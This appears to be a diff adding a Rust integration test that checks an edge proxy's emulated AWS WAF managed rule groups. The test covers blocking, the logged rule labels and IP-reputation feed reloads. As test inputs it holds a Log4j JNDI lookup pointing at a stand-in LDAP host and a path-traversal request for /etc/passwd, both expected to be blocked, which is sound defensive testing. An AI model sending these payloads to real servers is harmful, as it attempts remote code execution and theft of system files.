@@ -285,3 +285,131 @@ async fn a_broken_web_acl_is_refused_with_its_json_path() {
     let reply = h1(edge.http(), get("site.test", "/")).await;
     assert_eq!(reply.status, 200, "the running ACL keeps serving");
 }
+
+const MANAGED_ACL: &str = r#"{"Name": "managed-acl", "DefaultAction": {"Allow": {}},
+  "ARN": "arn:aws:wafv2:us-east-1:111122223333:global/webacl/managed-acl/cccc",
+  "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "managed-acl"},
+  "Rules": [
+    {"Name": "AWS-AWSManagedRulesAmazonIpReputationList", "Priority": 0, "OverrideAction": {"None": {}},
+     "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "AWSManagedRulesAmazonIpReputationList"}},
+     "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "ip-reputation"}},
+    {"Name": "AWS-AWSManagedRulesKnownBadInputsRuleSet", "Priority": 1, "OverrideAction": {"None": {}},
+     "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "AWSManagedRulesKnownBadInputsRuleSet", "Version": "Version_1.20"}},
+     "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "known-bad-inputs"}},
+    {"Name": "AWS-AWSManagedRulesCommonRuleSet", "Priority": 2, "OverrideAction": {"None": {}},
+     "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": "AWSManagedRulesCommonRuleSet",
+       "RuleActionOverrides": [{"Name": "NoUserAgent_HEADER", "ActionToUse": {"Count": {}}}]}},
+     "VisibilityConfig": {"SampledRequestsEnabled": true, "CloudWatchMetricsEnabled": true, "MetricName": "common"}}
+  ]}"#;
+
+#[tokio::test]
+async fn managed_rule_groups_block_attacks_and_ip_feeds_refresh_on_reload() {
+    let origin = TestOrigin::hello().await;
+    let dir = tempfile::tempdir().expect("temp dir").keep();
+    std::fs::write(dir.join("acl.json"), MANAGED_ACL).expect("write");
+    let feed = dir.join("reputation.txt");
+    std::fs::write(&feed, "# known bad\n192.0.2.0/24\n").expect("write");
+    let log = dir.join("waf.log");
+    let tables = format!(
+        "[waf]\nlog = \"{}\"\nip_feeds = {{ reputation = \"{}\" }}\n{}web_acl = \"{}\"\n{}",
+        log.display(),
+        feed.display(),
+        distribution_head("site", r#""site.test""#, "o1", ""),
+        dir.join("acl.json").display(),
+        origin_table("o1", origin.addr, ""),
+    );
+    let edge = TestEdge::start(&tables).await;
+
+    let browser = [("user-agent", "Mozilla/5.0 (X11; Linux x86_64)")];
+    assert_eq!(
+        send(&edge, "GET", "/products?page=2", &browser, "")
+            .await
+            .status,
+        200
+    );
+    let log4j = [
+        ("user-agent", "Mozilla/5.0"),
+        ("x-api-version", "${jndi:ldap://203.0.113.9/a}"),
+    ];
+    assert_eq!(
+        send(&edge, "GET", "/", &log4j, "").await.status,
+        403,
+        "Log4j JNDI in a header"
+    );
+    let lfi = [("user-agent", "Mozilla/5.0")];
+    assert_eq!(
+        send(
+            &edge,
+            "GET",
+            "/download?file=../../../../etc/passwd",
+            &lfi,
+            ""
+        )
+        .await
+        .status,
+        403
+    );
+    let reply = send(&edge, "GET", "/", &[], "").await;
+    assert_eq!(
+        reply.status, 200,
+        "NoUserAgent_HEADER is overridden to Count"
+    );
+
+    let records = {
+        let mut text = String::new();
+        for _ in 0..200 {
+            text = std::fs::read_to_string(&log).unwrap_or_default();
+            if text.lines().count() >= 4 {
+                break;
+            }
+            tokio::time::sleep(Duration::from_millis(25)).await;
+        }
+        text.lines()
+            .map(|l| serde_json::from_str::<serde_json::Value>(l).expect("JSON"))
+            .collect::<Vec<_>>()
+    };
+    assert_eq!(records.len(), 4, "{records:?}");
+    assert_eq!(
+        records[1]["terminatingRuleId"],
+        "AWS-AWSManagedRulesKnownBadInputsRuleSet"
+    );
+    assert_eq!(records[1]["terminatingRuleType"], "GROUP");
+    let group = &records[1]["ruleGroupList"]
+        .as_array()
+        .expect("groups")
+        .iter()
+        .find(|g| g["terminatingRule"].is_object())
+        .expect("the group that decided")
+        .clone();
+    assert_eq!(group["terminatingRule"]["ruleId"], "Log4JRCE_HEADER");
+    let labels: Vec<&str> = records[1]["labels"]
+        .as_array()
+        .expect("labels")
+        .iter()
+        .filter_map(|l| l["name"].as_str())
+        .collect();
+    assert!(
+        labels.contains(&"awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header"),
+        "{labels:?}"
+    );
+    let counted = records[3].to_string();
+    assert!(counted.contains("NoUserAgent_HEADER"), "{counted}");
+
+    // The feed now lists the test's own address: a reload reads it, no restart.
+    std::fs::write(&feed, "192.0.2.0/24\n127.0.0.0/8\n").expect("write");
+    edge.edge.reload().expect("reload");
+    assert_eq!(
+        send(&edge, "GET", "/products", &browser, "").await.status,
+        403,
+        "the refreshed feed blocks"
+    );
+
+    // A feed with a bad line is refused with its line; the running ACL keeps serving.
+    std::fs::write(&feed, "192.0.2.0/24\nnot-an-address\n").expect("write");
+    let error = edge.edge.reload().expect_err("bad feed refused");
+    assert!(error.to_string().contains("line 2"), "{error}");
+    assert_eq!(
+        send(&edge, "GET", "/products", &browser, "").await.status,
+        403
+    );
+}
